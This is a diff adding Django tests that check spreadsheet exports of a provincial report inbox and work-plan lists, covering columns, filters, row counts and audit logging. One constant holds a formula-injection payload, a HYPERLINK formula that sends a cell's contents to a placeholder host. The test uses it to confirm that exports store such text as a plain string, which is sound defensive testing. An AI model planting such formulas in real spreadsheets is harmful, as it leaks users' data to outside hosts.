@@ -123,3 +123,92 @@ def test_the_filtered_off_track_list_exports_every_row_to_xlsx_and_is_audited(
     assert all(isinstance(v, str) and not re.search(r"\d+\.\d{4,}", v) for v in values)  # the indicator's decimals
     event = AuditEvent.objects.filter(action=AuditAction.OFF_TRACK_EXPORTED).latest("pk")
     assert event.actor == national and event.detail["rows"] == len(expected)
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?d="&A2,"点此查看详情")'
+
+
+def _sheet(response: Any, title: str) -> Any:
+    import io
+
+    from openpyxl import load_workbook
+
+    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
+    return load_workbook(io.BytesIO(response.content))[title]
+
+
+def _column(sheet: Any, number: int) -> list[Any]:
+    return [sheet.cell(row=n, column=number).value for n in range(2, sheet.max_row + 1)]
+
+
+def test_the_filtered_national_inbox_exports_every_row_to_xlsx_and_is_audited(
+    client_as: Callable[[str], Client], django_assert_max_num_queries: Callable[..., Any]
+) -> None:
+    import datetime as dt
+
+    from shidian.core.audit_actions import AuditAction
+    from shidian.core.models import AuditEvent
+
+    client = client_as("demo-national")
+    guangxi = Province.objects.get(name="广西壮族自治区")
+    filters = {"inbox-province": str(guangxi.pk), "inbox-status": "acknowledged"}
+    page = client.get(reverse("reporting:home"), filters).content.decode()
+    assert f'href="{reverse("reporting:inbox_xlsx")}?inbox-province={guangxi.pk}&amp;inbox-status=acknowledged' in page
+    sent = ProvinceReport.objects.exclude(status=ProvinceStatus.DRAFT)
+    with django_assert_max_num_queries(16):  # one query for the rows, whatever their number (audit included)
+        everything = _sheet(client.get(reverse("reporting:inbox_xlsx")), "省级报告收件箱")
+    assert [c.value for c in everything[1]] == [
+        "省级单位", "报告轮次", "报告期间", "省级报送期限", "最近报送时间", "版本数", "状态"
+    ]  # fmt: skip
+    assert everything.freeze_panes == "A2"
+    assert everything.max_row - 1 == sent.count() > 50  # every row, not the first page
+    assert set(_column(everything, 3)) <= {f"{y}年{h}" for y in range(2016, 2021) for h in ("度", "上半年")}
+    due = everything.cell(row=2, column=4)
+    assert isinstance(due.value, dt.datetime | dt.date) and "年" in due.number_format
+    assert all(re.fullmatch(r"\d{4}年\d{1,2}月\d{1,2}日 \d\d:\d\d", v) for v in _column(everything, 5))
+
+    filtered = _sheet(client.get(reverse("reporting:inbox_xlsx"), filters), "省级报告收件箱")
+    wanted = sent.filter(province=guangxi, status=ProvinceStatus.ACKNOWLEDGED)
+    assert filtered.max_row - 1 == wanted.count() > 0
+    assert set(_column(filtered, 1)) == {"广西壮族自治区"}
+    assert set(_column(filtered, 7)) == {str(ProvinceStatus.ACKNOWLEDGED.label)}
+    event = AuditEvent.objects.filter(action=AuditAction.INBOX_EXPORTED).latest("pk")
+    assert event.actor is not None and event.actor.username == "demo-national"
+    assert event.detail["rows"] == wanted.count()
+    assert event.detail["filters"] == {"province": "广西壮族自治区", "status": "已确认"}  # as the auditor reads them
+    assert client_as("demo-province").get(reverse("reporting:inbox_xlsx")).status_code == 404
+
+
+def test_the_filtered_plans_lists_export_every_row_to_xlsx_and_are_audited(
+    client_as: Callable[[str], Client],
+) -> None:
+    from shidian.core.audit_actions import AuditAction
+    from shidian.core.models import AuditEvent
+    from shidian.pilots.models import PilotArea
+
+    liuzhou = PilotArea.objects.get(name="柳州市")
+    PilotArea.objects.filter(pk=liuzhou.pk).update(name=FORMULA)  # text a spreadsheet must not run
+    client = client_as("demo-national")
+    page = client.get(reverse("plans:national"), {"batch": "1"}).content.decode()
+    assert "batch=1&amp;format=xlsx" in page  # the link keeps the filters
+    everything = _sheet(client.get(reverse("plans:national"), {"format": "xlsx"}), "工作方案进展")
+    assert [c.value for c in everything[1]][:5] == ["省级单位", "试点地区", "批次", "现行方案", "待处理版本"]
+    assert everything.freeze_panes == "A2"
+    assert everything.max_row - 1 == PilotArea.objects.count() > 50  # every row, not the first page
+    progress = [v for v in _column(everything, 10) if v is not None]
+    assert progress and all(isinstance(v, int | float) and 0 <= v <= 100 for v in progress)
+    assert set(_column(everything, 4)) - {"未编制"} <= {
+        v for v in _column(everything, 4) if v and re.fullmatch(r"第\d+版 · \S+", v)
+    }
+    formula_cells = [c for c in everything["B"] if c.value == FORMULA]
+    assert formula_cells and all(c.data_type == "s" for c in formula_cells)  # a string, never a formula
+
+    batch_one = _sheet(client.get(reverse("plans:national"), {"batch": "1", "format": "xlsx"}), "工作方案进展")
+    assert batch_one.max_row - 1 == PilotArea.objects.filter(batch__number=1).count()
+    assert set(_column(batch_one, 3)) == {"第一批"}
+    event = AuditEvent.objects.filter(action=AuditAction.PLAN_LIST_EXPORTED).latest("pk")
+    assert event.detail == {"format": "xlsx", "rows": batch_one.max_row - 1, "filters": {"batch": "第一批"}}
+
+    province = _sheet(client_as("demo-province").get(reverse("plans:province"), {"format": "xlsx"}), "工作方案进展")
+    assert set(_column(province, 1)) == {"广西壮族自治区"}
+    assert province.max_row - 1 == PilotArea.objects.filter(province__name="广西壮族自治区").count()
